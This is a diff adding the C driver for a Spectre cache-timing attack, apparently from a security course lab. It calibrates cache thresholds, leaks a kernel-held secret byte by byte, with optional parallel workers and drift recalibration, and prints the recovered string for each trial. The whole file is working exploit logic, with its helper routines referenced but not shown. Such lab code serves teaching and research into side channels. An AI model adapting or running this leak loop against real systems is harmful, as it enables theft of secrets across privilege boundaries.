@@ -0,0 +1,89 @@
+/*
+ * spectre_attacker
+ * Leak loop shared by every part
+ */
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "spectre_attacker.h"
+#include "spectre_timer.h"
+#include "calibration_cache.h"
+#include "parallel_leak.h"
+#include "spectre_victim.h"
+#include "spectre_tuning.h"
+
+static const AttackerPart* const attacker_parts[] = {
+    &attacker_part1,
+    &attacker_part2,
+    &attacker_part3,
+};
+
+const AttackerPart* find_attacker_part(const char* name)
+{
+    for (size_t i = 0; i < sizeof(attacker_parts) / sizeof(attacker_parts[0]); i++) {
+        if (strcmp(attacker_parts[i]->name, name) == 0) return attacker_parts[i];
+    }
+    return NULL;
+}
+
+int run_attacker(const AttackerPart* part, int kernel_fd, char *shared_memory, size_t trials)
+{
+    char leaked_str[SHD_SPECTRE_LAB_SECRET_MAX_LEN + 1];
+    size_t current_offset = 0;
+    size_t bytes_since_calibration = 0;
+    ProbeConfig probe;
+    DecisionConfig decision;
+    TuningConfig tuning;
+    ParallelLeaker* leaker = NULL;
+    CacheStats cache_stats = load_or_generate_cache_stats(1000);
+    setup_tuned_part(part, kernel_fd, shared_memory, &cache_stats, &probe, &decision, &tuning);
+    //print_cache_stats(cache_stats);
+    // Set the workers up once, so trials only time the leak
+    if (parallel_config.num_workers > 0) {
+        leaker = start_parallel_leak(&probe, &parallel_config);
+    }
+    printf("Launching attacker\n");
+
+    for (size_t trial = 1; trial <= trials; trial++) {
+        uint64_t start_ns = monotonic_ns();
+        memset(leaked_str, 0, sizeof(leaked_str));
+
+        if (leaker != NULL) {
+            leak_secret_parallel(leaker, &decision, leaked_str, SHD_SPECTRE_LAB_SECRET_MAX_LEN);
+        } else {
+            for (current_offset = 0; current_offset < SHD_SPECTRE_LAB_SECRET_MAX_LEN; current_offset++)
+            {
+                DecisionResult result = decide_byte(&probe, &decision, current_offset);
+                char leaked_byte = (char)result.value;
+                if (part->print_bytes) {
+                    printf("[%s] Found char:%c: (confidence %.4f after %zu sweeps)", part->label, leaked_byte, result.confidence, result.sweeps);
+                    print_pmu_sample(&result.events);
+                    printf("\n");
+                }
+                leaked_str[current_offset] = leaked_byte;
+                if (leaked_byte == '\x00') {
+                    break;
+                }
+
+                // Keep the threshold in step with frequency and temperature drift
+                recalibrate_after_byte(&bytes_since_calibration, &cache_stats, &tuning, &decision);
+            }
+        }
+
+        // One line per trial, so drivers can stream results
+        printf("[%s] Trial %zu/%zu: %s (%.3f s)\n", part->label, trial, trials, leaked_str,
+            (monotonic_ns() - start_ns) / 1e9);
+        fflush(stdout);
+    }
+
+    if (leaker != NULL) {
+        stop_parallel_leak(leaker);
+    }
+    destroy_cache_stats(cache_stats);
+    part->teardown(&probe);
+    close_victim(kernel_fd);
+    return EXIT_SUCCESS;
+}